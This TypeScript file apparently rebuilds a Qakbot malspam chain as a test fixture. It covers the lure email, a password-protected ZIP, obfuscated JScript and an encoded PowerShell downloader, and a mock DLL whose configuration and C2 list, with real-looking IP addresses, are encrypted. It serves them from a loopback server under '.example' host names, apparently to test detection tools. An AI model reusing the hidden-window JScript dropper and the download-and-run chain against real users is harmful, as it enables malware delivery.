// The reference case built end to end, as a 2022–2023 Qakbot malspam wave delivered it: a lure whose link
// serves a ZipCrypto ZIP (password in the body); inside, obfuscated JScript that runs an encoded PowerShell
// command; the command tries two URLs in turn, saves a DLL under ProgramData and runs it with rundll32; the DLL
// is an unpacked Qakbot core with its RC4-encrypted configuration and C2 list in named resources.

import { qakbotLure } from './email.ts';
import { startPayloadServer, type PayloadServer } from './payload-server.ts';
import { buildPe, codeLikeBytes } from './pe.ts';
import { c2Records, configText, encryptQakbotBlob } from './pe-qakbot.ts';
import { encodedLauncher, qakbotDownloader } from './powershell.ts';
import { makeZip } from './zip.ts';

export const CHAIN = {
  lureHost: 'hoffmann-invoices.example',
  payloadHost: 'cdn-update-service.example',
  password: 'QB4411',
  campaign: 'BB12',
  timestamp: 1678784400, // 2023-03-14T09:00:00Z
  c2: [
    { ip: '102.156.2.121', port: 443 },
    { ip: '86.98.53.83', port: 2222 },
    { ip: '41.97.45.154', port: 995 },
  ],
  dllPath: 'C:\\ProgramData\\Kmtlq.dll',
  exportName: 'DllRegisterServer',
} as const;

export function qakbotCoreDll(): Uint8Array {
  return buildPe({
    dll: true,
    sections: [
      { name: '.text', data: codeLikeBytes(0x4000), access: 'r-x' },
      { name: '.data', data: codeLikeBytes(0x800), access: 'rw-' },
    ],
    imports: [{ dll: 'KERNEL32.dll', functions: ['LoadLibraryA', 'GetProcAddress', 'VirtualAlloc', 'FindResourceA', 'LoadResource', 'Sleep'] }],
    exports: { dllName: 'core.dll', names: [CHAIN.exportName] },
    resources: [
      { type: 10, name: '524', data: encryptQakbotBlob(configText([['10', CHAIN.campaign], ['3', String(CHAIN.timestamp)]]), 'powershell-path') },
      { type: 10, name: '118', data: encryptQakbotBlob(c2Records([...CHAIN.c2]), 'powershell-path') },
    ],
  });
}

export interface QakbotChain {
  server: PayloadServer;
  /** The reported email. */
  lure: string;
  /** The link in the lure (on CHAIN.lureHost: pass `--resolve` to reach the server). */
  lureUrl: string;
  /** The two URLs the PowerShell stage tries: the first answers 404, the second serves the DLL. */
  payloadUrls: string[];
  dll: Uint8Array;
  zip: Uint8Array;
  script: string;
  command: string;
  /** CLI arguments that let the downloader reach the loopback server under the chain's host names. */
  fetchArgs: string[];
  close(): Promise<void>;
}

export async function startQakbotChain(): Promise<QakbotChain> {
  const dll = qakbotCoreDll();
  // Routes are filled in after the server knows its port: the URLs inside the samples carry it.
  const routes: Record<string, { body?: Uint8Array | string; type?: string; status?: number }> = {};
  const server = await startPayloadServer(routes);
  const port = server.port;
  const lureUrl = `http://${CHAIN.lureHost}:${port}/wp-content/uploads/Invoice_4411.zip`;
  const payloadUrls = [`http://${CHAIN.payloadHost}:${port}/gate/a1.dat`, `http://${CHAIN.payloadHost}:${port}/gate/b2.dat`];
  const command = encodedLauncher(qakbotDownloader(payloadUrls, CHAIN.dllPath, CHAIN.exportName));
  const script = qakbotJscript(command);
  const zip = await makeZip([{ name: 'Invoice_4411.js', data: script }], { password: CHAIN.password });
  routes['/wp-content/uploads/Invoice_4411.zip'] = { body: zip, type: 'application/zip' };
  routes['/gate/b2.dat'] = { body: dll, type: 'application/octet-stream' };
  const lure = qakbotLure({ url: lureUrl, password: CHAIN.password });
  const fetchArgs = ['--fetch', 'live', '--allow-host', '127.0.0.1', '--resolve', `${CHAIN.lureHost}=127.0.0.1`, '--resolve', `${CHAIN.payloadHost}=127.0.0.1`];
  return { server, lure, lureUrl, payloadUrls, dll, zip, script, command, fetchArgs, close: () => server.close() };
}

/**
 * The JScript of the 2022–2023 waves: junk comments, the command kept reversed in pieces, the ProgID built from
 * parts, and one `WScript.Shell.Run(cmd, 0)` with a hidden window.
 */
export function qakbotJscript(command: string): string {
  const reversed = [...command].reverse().join('');
  const pieces: string[] = [];
  for (let i = 0; i < reversed.length; i += 97) pieces.push(JSON.stringify(reversed.slice(i, i + 97)));
  return [
    '// Licensed under the Apache License, Version 2.0 (the "License");',
    'var qzx = ["Shell", "WScript", "."];',
    `var vfo = [${pieces.join(',\n  ')}].join("");`,
    'function mkp(s) { return s.split("").reverse().join(""); }',
    'var ux = new ActiveXObject(qzx[1] + qzx[2] + qzx[0]);',
    'ux["R" + "un"](mkp(vfo), 0, false);',
    '',
  ].join('\n');
}
